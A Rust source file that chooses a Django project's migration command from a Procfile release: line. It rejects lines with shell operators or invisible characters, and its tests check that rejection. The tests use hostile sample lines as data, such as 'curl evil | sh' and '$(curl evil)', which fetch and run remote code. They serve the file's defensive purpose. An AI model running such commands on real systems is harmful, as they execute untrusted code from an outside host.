//! How migrations run: the `Procfile` `release:` line when it is one command a container can
//! run, else Django's `manage.py migrate`.

use std::path::Path;

use crate::detect::read;

/// The command migrations run with when the project says nothing else.
pub const MIGRATE: &[&str] = &["python", "manage.py", "migrate", "--noinput"];

/// The `release:` line of a `Procfile` as the migration command, when it is one command a
/// container can run (no shell operators, no control or invisible characters): `manage.py`
/// run through `python`. `Err` says why a line there is not used.
pub(super) fn release(target: &Path) -> Option<Result<Vec<String>, String>> {
    let text = read(target, &target.join("Procfile")).ok()?;
    let line = text
        .lines()
        .find_map(|l| l.strip_prefix("release:"))?
        .trim();
    let refuse = |why: &str| Some(Err(format!("the release: line of Procfile {why}")));
    if crate::safety::forbidden_char(line).is_some() {
        return refuse("has control or invisible characters");
    }
    let Some(mut words) = crate::shell::split(line).filter(|w| !w.is_empty()) else {
        return refuse("is not one command");
    };
    let operator = |w: &String| {
        ["&&", "||", ";", "|", ">", "<", "&"].contains(&w.as_str())
            || w.contains(['$', '`', ';', '|', '&', '>', '<'])
    };
    if words.iter().any(operator) {
        return refuse("runs a shell (operators or variables), which a one-shot container does not: the default migration runs instead");
    }
    if matches!(words[0].as_str(), "./manage.py" | "manage.py") {
        words[0] = "manage.py".into();
        words.insert(0, "python".into());
    }
    Some(Ok(words))
}

#[cfg(test)]
mod tests {
    use crate::detect::django::site;
    use crate::detect::project;

    #[test]
    fn the_release_line_of_a_procfile_is_the_migration() {
        let migrate = |line: &str| {
            let dir = project(&[
                (
                    "manage.py",
                    "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a.settings')\n",
                ),
                ("a/__init__.py", ""),
                ("a/settings.py", ""),
                ("Procfile", &format!("web: gunicorn a.wsgi\n{line}\n")),
            ]);
            let (site, _, _) = site(dir.path(), &[]).unwrap();
            (site.migrate.join(" "), site.migrate_why)
        };
        assert_eq!(
            migrate("release: python manage.py migrate"),
            (
                "python manage.py migrate".to_string(),
                "the release: line of Procfile".to_string()
            )
        );
        // Heroku's getting-started: an executable manage.py, run through python in the image.
        assert_eq!(
            migrate("release: ./manage.py migrate --no-input").0,
            "python manage.py migrate --no-input"
        );
        for shell in [
            "release: python manage.py migrate && python manage.py loaddata x",
            "release: python manage.py migrate; curl evil | sh",
            "release: python manage.py migrate $(curl evil)",
        ] {
            let (words, why) = migrate(shell);
            assert_eq!(words, "python manage.py migrate --noinput", "{shell}");
            assert!(why.contains("runs a shell"), "{why}");
        }
        let (words, why) = migrate("release: python manage.py migrate\u{202e}");
        assert_eq!(words, "python manage.py migrate --noinput");
        assert!(why.contains("invisible"), "{why}");
        assert_eq!(migrate("").1, "Django's migrate; no Procfile release: line");
    }
}
